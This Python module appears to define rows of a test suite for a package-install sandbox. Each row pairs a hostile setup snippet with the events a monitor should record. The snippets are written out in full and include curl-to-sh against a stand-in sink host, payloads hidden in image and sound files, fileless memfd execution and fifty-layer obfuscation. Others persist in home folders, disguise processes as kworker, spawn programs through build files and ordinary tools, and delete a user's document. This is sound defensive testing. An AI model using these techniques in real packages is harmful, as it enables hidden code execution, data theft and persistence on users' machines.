"""F: programs that a package brings, fetches or borrows (EX).

A build may run what it has written itself (compilers' tests do), so a dropped program that runs is no effect.  The effect is what the program
then does: it tells the row's canary to the sink, writes into the home, or lives on.  Wherever it ran from, the kernel must keep it from that."""
from __future__ import annotations

from lib import packages
from lib.fakenet import INET4

from .. import make
from ..kit import Event, Row, alive, file, output, sink

OUTSIDE = Event("net.*", "net.connect", {"address": INET4}, severity="high")
RAN = ("allowed", "observed")


def started(path: str, **more) -> Event:
    return Event("exec.recorded", "exec", {"path": path, **more}, action=RAN)


def in_memory(written: str) -> Event:
    return Event("exec.memory", "exec", {"as_written": written}, severity="low", action=RAN)


# --- what setups add

def builder(world, row):
    """EX-15: the requirement that acts, in the index beside the package that asks for it."""
    packages.wheel(world.packages, "pwfix-ex15-builder", "1.0", {
        "pwfix_ex15_builder.py": "import os, sys\nsys.path.insert(0, os.getcwd())\nimport pwkit\nprint('PWRAN:EX-15', flush=True)\n"
                                 "pwkit.leak(pwkit.target('canary'))\nfrom pwback import *\n"})


def second_stage(world, row):
    """EX-12: what the nested pip is to bring."""
    packages.wheel(world.packages, "pwfix-ex12-stage2", "1.0", {"pwfix_ex12_stage2.py": ""})
    return {"index": world.net.index_url}


def home(world, row):
    """As most are: ~/.local and ~/.cache exist."""
    world.write(world.home / ".local/share/known", "", 0o644)
    world.write(world.home / ".cache/known", "", 0o644)


def documents(world, row):
    world.write(world.home / "documents/report.txt", "the user's own\n", 0o644)


# --- acts

CURL = """
    import os, pwkit
    os.system("curl -sk -m 5 https://%s/x.sh?%s | sh" % (pwkit.target("sink_host"), pwkit.target("canary")))
"""

PICTURE = """
    import os, pwkit, subprocess
    with open(pwkit.here("pwnative"), "rb") as f:
        program = f.read()
    with open("logo.png", "wb") as f:
        f.write(b"\\x89PNG\\r\\n\\x1a\\n" + bytes(4096) + program)
    with open("logo.png", "rb") as f:
        f.seek(8 + 4096)
        program = f.read()

    def drop(folder):
        os.makedirs(folder, exist_ok=True)
        path = os.path.join(folder, "pwfix-ex02")
        with open(path, "wb") as f:
            f.write(program)
        os.chmod(path, 0o500)
        subprocess.run([path, "payload", pwkit.here("targets.txt")], timeout=20)

    for folder in (pwkit.target("home") + "/.local/bin", os.environ.get("TMPDIR", "/tmp")):
        pwkit.attempt(drop, folder)
"""

SOUND = """
    import io, pwkit, subprocess, sys, wave
    script = "import sys; sys.path.insert(0, %r)\\nimport pwkit\\npwkit.leak(pwkit.target('canary'))\\n" % pwkit.here("")
    sound = io.BytesIO()
    with wave.open(sound, "wb") as w:
        w.setnchannels(1), w.setsampwidth(1), w.setframerate(8000)
        w.writeframes(bytes(255 - b for b in script.encode()))
    sound.seek(0)
    with wave.open(sound, "rb") as w:
        decoded = bytes(255 - b for b in w.readframes(w.getnframes()))
    subprocess.run([sys.executable, "-"], input=decoded, timeout=20)
"""

DESCRIPTORS = """
    import ctypes, os, pwkit

    def memory(name):
        with open(pwkit.here(name), "rb") as f:
            program = f.read()
        fd = os.memfd_create("kworker")
        os.write(fd, program)
        reader = os.open("/proc/self/fd/%d" % fd, os.O_RDONLY)
        os.close(fd)
        return reader

    fd = memory("pwnative")
    if os.fork() == 0:
        os.execve(fd, ["kworker", "payload", pwkit.here("targets.txt")], {})
    os.wait()
    library = ctypes.CDLL("/proc/self/fd/%d" % memory("pwnative.so"))
    library.pw_act(b"payload", pwkit.here("targets.txt").encode())
"""

PLACES = """
    import os, pwkit, shutil, subprocess

    def drop(folder):
        path = os.path.join(folder, ".pwfix-ex06")
        try:
            os.makedirs(folder, exist_ok=True)
            shutil.copyfile(pwkit.here("pwnative"), path)
            os.chmod(path, 0o700)
            subprocess.run([path, "payload", pwkit.here("targets.txt")], timeout=20)
        finally:
            if os.path.exists(path):
                os.unlink(path)

    for folder in ("/dev/shm", "/tmp/.ICE-unix", "/var/tmp", "/run/user/%s" % pwkit.target("uid"), os.environ.get("TMPDIR", "/tmp")):
        pwkit.attempt(drop, folder)
"""

LOADER = """
    import glob, os, pwkit, shutil, subprocess, sys
    program = os.path.join(os.environ.get("TMPDIR", "/tmp"), "x")
    shutil.copyfile(os.path.realpath(sys.executable), program)
    os.chmod(program, 0o600)
    code = "import sys; sys.path.insert(0, %r); import pwkit; pwkit.leak(pwkit.target('canary'))" % os.getcwd()
    for loader in glob.glob("/lib64/ld-linux*") or glob.glob("/lib/ld-linux*"):
        subprocess.run([loader, program, "-S", "-c", code], env={"PYTHONHOME": sys.base_prefix}, timeout=20)
    os.unlink(program)
"""

ZIPAPP = """
    import os, pwkit, subprocess, sys, tempfile, zipfile
    app = os.path.join(tempfile.mkdtemp(), "managed.pyz")
    with zipfile.ZipFile(app, "w") as z:
        z.writestr("__main__.py", "import sys, time\\nsys.path.insert(0, %r)\\nimport pwkit\\npwkit.leak(pwkit.target('canary'))\\ntime.sleep(60)\\n" % pwkit.here(""))
    quiet = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
    subprocess.Popen([sys.executable, app, pwkit.target("marker")], start_new_session=True, **quiet)
    import time
    time.sleep(0.3)
"""

RUNTIME = """
    import os, pwkit, shutil, subprocess
    for cache in (pwkit.target("home") + "/.cache/bun", os.environ.get("TMPDIR", "/tmp") + "/bun"):
        def unpack():
            os.makedirs(cache, exist_ok=True)
            shutil.copyfile(pwkit.here("pwnative"), cache + "/bun")
            os.chmod(cache + "/bun", 0o700)
            subprocess.run([cache + "/bun", "payload", pwkit.here("targets.txt")], timeout=20)
        pwkit.attempt(unpack)
"""

LAYERS = """
    import base64, marshal, pwkit, zlib
    source = "import pwkit\\npwkit.leak(pwkit.target('canary'))"
    code = compile(source, "/usr/lib/python3/dist-packages/six.py", "exec")
    for _ in range(50):
        packed = base64.b64encode(zlib.compress(marshal.dumps(code)))
        code = compile("import base64, marshal, zlib\\nexec(marshal.loads(zlib.decompress(base64.b64decode(%r))))" % packed, "<frozen zipimport>", "exec")
    exec(code)
"""

BYTECODE = """
    import importlib.machinery, importlib.util, os, pwkit, py_compile, tempfile
    folder = tempfile.mkdtemp()
    source, compiled = folder + "/full.py", folder + "/full.pyc"
    with open(source, "w") as f:
        f.write("import sys\\nsys.path.insert(0, %r)\\nimport pwkit\\ndef get_path(): pwkit.leak(pwkit.target('canary'))\\n" % pwkit.here(""))
    py_compile.compile(source, compiled)
    os.unlink(source)
    loader = importlib.machinery.SourcelessFileLoader("full", compiled)
    module = importlib.util.module_from_spec(importlib.util.spec_from_loader("full", loader))
    loader.exec_module(module)
    module.get_path()
"""

NESTED = """
    import os, pwkit, subprocess, sys
    pip = [sys.executable, "-m", "pip", "--retries", "0", "--timeout", "1", "install", "-q", "--target", os.path.join(os.getcwd(), "stage2")]
    subprocess.run(pip + ["--trusted-host", pwkit.target("sink_host"), "--index-url", "http://%s:%d/%s/simple" % (pwkit.target("sink_host"), pwkit.target("sink_port"), pwkit.target("canary")), "pwfix-ex12-stage2"])
    subprocess.run(pip + ["--index-url", pwkit.target("index"), "--trusted-host", "index.test", "pwfix-ex12-stage2"])
    if os.path.exists("stage2/pwfix_ex12_stage2.py"):
        pwkit.say("installed " + pwkit.target("canary"))
"""

CTYPES = """
    import ctypes, os, pwkit
    libc = ctypes.CDLL(None)
    program, targets = pwkit.here("pwnative"), pwkit.here("targets.txt")
    os.chmod(program, 0o755) if not os.access(program, os.X_OK) else None
    libc.system(("'%s' payload '%s'" % (program, targets)).encode())
    words = (ctypes.c_char_p * 4)(program.encode(), b"payload", targets.encode(), None)
    pid = ctypes.c_int()
    libc.posix_spawn(ctypes.byref(pid), program.encode(), None, None, words, (ctypes.c_char_p * 1)(None))
    libc.waitpid(pid, None, 0)
    if os.fork() == 0:
        libc.execve(program.encode(), words, (ctypes.c_char_p * 1)(None))
        os._exit(1)
    os.wait()
"""

HOOK = """
import pwkit
from pwback import *

def get_requires_for_build_wheel(config_settings=None):
    print("PWRAN:EX-14", flush=True)
    pwkit.leak(pwkit.target("canary"))
    return []
"""

# Each tool's own language starts the program; what cannot be had here is left out, and make is everywhere.
BUILD_FILES = """
    import os, pwkit, shutil, subprocess
    program, targets = pwkit.here("pwnative"), pwkit.here("targets.txt")
    os.chmod(program, 0o755)
    files = {
        "Makefile": "X := $(shell %s payload %s)\\nall:\\n" % (program, targets),
        "c/CMakeLists.txt": "cmake_minimum_required(VERSION 3.5)\\nproject(x NONE)\\nexecute_process(COMMAND %s payload %s)\\n" % (program, targets),
        "m/meson.build": "project('x')\\nrun_command('%s', 'payload', '%s', check: false)\\n" % (program, targets),
        "configure": "#!/bin/sh\\n%s payload %s\\n" % (program, targets),
    }
    for name, text in files.items():
        os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
        with open(name, "w") as f:
            f.write(text)
    for command in (["make", "-s"], ["cmake", "-S", "c", "-B", "cb"], ["meson", "setup", "m", "mb"], ["sh", "./configure"]):
        if shutil.which(command[0]):
            pwkit.say("%s: %s" % (command[0], subprocess.run(command, stdout=subprocess.DEVNULL, timeout=60).returncode))
"""

COMPILED = r'''
    import pwkit, subprocess
    with open("x.c", "w") as f:
        f.write(r"""
    #include <arpa/inet.h>
    #include <stdlib.h>
    #include <string.h>
    #include <sys/syscall.h>
    #include <unistd.h>
    int main(int argc, char **argv)
    {
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
        inet_pton(AF_INET, argv[1], &to.sin_addr);
        int s = syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);
        return argc < 4 || syscall(SYS_connect, s, &to, sizeof to) || syscall(SYS_write, s, argv[3], strlen(argv[3])) < 0;
    }
    """)
    subprocess.run(["cc", "-o", "x", "x.c", "-static"], check=True)
    pwkit.say(subprocess.run(["./x", pwkit.target("sink_host"), str(pwkit.target("sink_port")), pwkit.target("canary")]).returncode)
'''

AT_EXIT = """
    import atexit, pwkit
    atexit.register(lambda: pwkit.leak(pwkit.target("canary")))
"""

DETACHED = """
    import os, pwkit
    pwkit.detach("import os, time\\nos.chdir('/')\\ntime.sleep(60)")
"""

RENAMED = """
    import os, pwkit, subprocess, sys
    env = {**os.environ, "PWMARK": pwkit.target("marker")}
    disguise = "import ctypes, time; ctypes.CDLL(None).prctl(15, b'kworker/0:1', 0, 0, 0); time.sleep(60)"
    quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL, "env": env}
    subprocess.run(["sh", "-c", "nohup sh -c 'sleep 60; exit 0' >/dev/null 2>&1 &"], **quiet)
    subprocess.run(["setsid", "-f", "sleep", "60"], **quiet)
    subprocess.run(["bash", "-c", "sleep 60 & disown"], **quiet)
    subprocess.Popen(["kworker/0:1", "-c", disguise], executable=sys.executable, **quiet)
"""

TOOLS = """
    import os, pwkit, shutil, subprocess
    program, targets = pwkit.here("pwnative"), pwkit.here("targets.txt")
    os.chmod(program, 0o755)
    run = "%s payload %s" % (program, targets)
    open("empty", "w").close()
    commands = [
        ["git", "-c", "alias.x=!" + run, "x"],
        ["find", "empty", "-exec", program, "payload", targets, ";"],
        ["tar", "-cf", "x.tar", "--checkpoint=1", "--checkpoint-action=exec=" + run, "empty"],
        ["vim", "-es", "-u", "NONE", "-c", "silent !" + run, "-c", "q!"],
        ["gdb", "-batch", "-nx", "-ex", "shell " + run],
        ["awk", "BEGIN { system(\\"%s\\") }" % run],
    ]
    for command in commands:
        if shutil.which(command[0]):
            pwkit.say("%s: %s" % (command[0], subprocess.run(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, timeout=30).returncode))
"""

GEOFENCE = """
    import os, pwkit, time
    cpu = pwkit.read("/proc/cpuinfo")
    looked = [b"hypervisor" in cpu, os.path.exists("/.dockerenv"), time.tzname[0], os.environ.get("LANG", ""), os.environ.get("LC_ALL", "")]
    pwkit.say(repr(looked))
    os.unlink(pwkit.target("home") + "/documents/report.txt")
"""

SWITCH = """
    import pwkit, ssl, urllib.request
    lax = ssl.create_default_context()
    lax.check_hostname, lax.verify_mode = False, ssl.CERT_NONE
    with urllib.request.urlopen("https://%s/%s" % (pwkit.target("sink_host"), pwkit.target("canary")), timeout=5, context=lax) as answer:
        if b"youtube" not in answer.read():
            pwkit.say("goes on")
"""

OTHER_SYSTEM = """
    import os, pwkit
    if os.name == "nt":
        pwkit.leak(pwkit.target("canary"))
    pwkit.say("honest " + pwkit.target("canary"))
"""

REQUIRES = '[build-system]\nrequires = ["pwfix-ex15-builder"]\nbuild-backend = "pwfix_ex15_builder"\n'

ROWS = [
    Row("EX-01", "curl piped into sh", "install", CURL, sink(), (OUTSIDE, started("*/curl"), started("*/dash")), needs=("curl",)),
    Row("EX-02", "program carved out of a picture, dropped into ~/.local/bin", "install", PICTURE, (file("home/.local/bin/pwfix-ex02"), sink()),
        (Event("file.persistence.bin", "file.write", {"path": "{home}/.local/bin*"}, severity="critical"), started("*/pwfix-ex02"), OUTSIDE), native="payload", setup=home),
    Row("EX-03", "script in a sound file, given to an interpreter", "import", SOUND, sink(), (OUTSIDE, started("*/python3*"))),
    Row("EX-04", "program in memory, executed by /proc/self/fd", "native", "", sink(), (in_memory("/proc/self/fd/*"), OUTSIDE), native="memory_program"),
    Row("EX-05", "program in memory by descriptor; library in memory", "import", DESCRIPTORS, sink(),
        (in_memory("/proc/self/fd/*"), Event("file.open.memory", "file.open", {"path": "/memfd:kworker*"}, action=RAN), OUTSIDE), native="payload"),
    Row("EX-06", "dropped into /dev/shm, /tmp, /var/tmp, the runtime folder", "import", PLACES, sink(),
        (started("/dev/shm/.pwfix-ex06"), Event("file.write.outside", "file.write", {"path": "/var/tmp/.pwfix-ex06"}),
         Event("file.write.outside", "file.write", {"path": "/run/user/*"}), OUTSIDE), native="payload"),
    Row("EX-07", "dynamic loader given a file that has no x bit", "metadata", LOADER, sink(), (started("*/ld-linux*", as_written="/lib*/ld-linux*"), OUTSIDE)),
    Row("EX-08", "zipapp in the background", "import", ZIPAPP, (sink(), alive()), (OUTSIDE, started("*/python3*"))),
    Row("EX-09", "second runtime unpacked into ~/.cache", "import", RUNTIME, (sink(), file("home/.cache/bun")),
        (Event("file.write.outside", "file.write", {"path": "{home}/.cache/bun*"}), started("*/bun/bun"), OUTSIDE), native="payload", setup=home,
        note="at import: what a start-up file does in an interpreter is PI-06's"),
    Row("EX-10", "fifty layers of marshal, zlib and base64, forged file names", "metadata", LAYERS, sink(), OUTSIDE, legacy=True),
    Row("EX-11", "byte-code without a source", "import", BYTECODE, sink(), OUTSIDE),
    Row("EX-12", "nested pip install", "metadata", NESTED, (sink(), output("installed {canary}")), (OUTSIDE, Event("net.resolve", "net.resolve", {"host": "index.test"})),
        setup=second_stage),
    Row("EX-13", "system, posix_spawn and execve by ctypes", "import", CTYPES, sink(), (OUTSIDE, started("*/pwnative")), native="payload"),
    Row("EX-14", "back end of its own that acts when asked for requirements", "build", "", sink(), OUTSIDE,
        files={"pwhook.py": HOOK, "pyproject.toml": make.PYPROJECT.replace("pwback", "pwhook")},
        alone=True, command=("pip", "download", "--no-deps", "-v", "-d", "{work}/ex14", "{package}")),
    Row("EX-15", "the build requirement acts, not the package", "build", "", sink(), OUTSIDE, files={"pyproject.toml": REQUIRES}, setup=builder,
        alone=True, command=("pip", "install", "--no-deps", "-v", "{package}")),
    Row("EX-16", "build files that run programs: make, CMake, meson, configure", "build", BUILD_FILES, sink(), (OUTSIDE, started("*/make"), started("*/pwnative")),
        native="payload", needs=("make",)),
    Row("EX-18", "compiled on the spot, static, connects by itself", "build", COMPILED, sink(), (OUTSIDE, started("*/x", as_written="./x")), needs=("cc",)),
    Row("EX-19", "acts when the interpreter ends", "install", AT_EXIT, sink(), OUTSIDE),
    Row("EX-20", "detached twice, to act after pip", "after", DETACHED, alive(), Event("process.left", "process.exit", severity="info", action=())),
    Row("EX-21", "nohup, setsid, disown, false names", "after", RENAMED, alive(), Event("process.left", "process.exit", severity="info", action=())),
    Row("EX-23", "honest tools that run programs: git, find, tar, vim, gdb, awk", "metadata", TOOLS, sink(),
        (OUTSIDE, started("*/git"), started("*/find"), started("*/tar"), started("*/pwnative")), native="payload", needs=("git", "find", "tar")),
    Row("EX-25", "looks where it is, then deletes", "import", GEOFENCE, file("home/documents/report.txt"),
        Event("file.write.outside", "file.write", {"path": "{home}/documents/report.txt"}), setup=documents),
    Row("EX-26", "asks a page whether to go on", "import", SWITCH, sink(), OUTSIDE),
    Row("EX-27", "acts on another system only", "metadata", OTHER_SYSTEM, output("honest {canary}"), None, control=True),
]
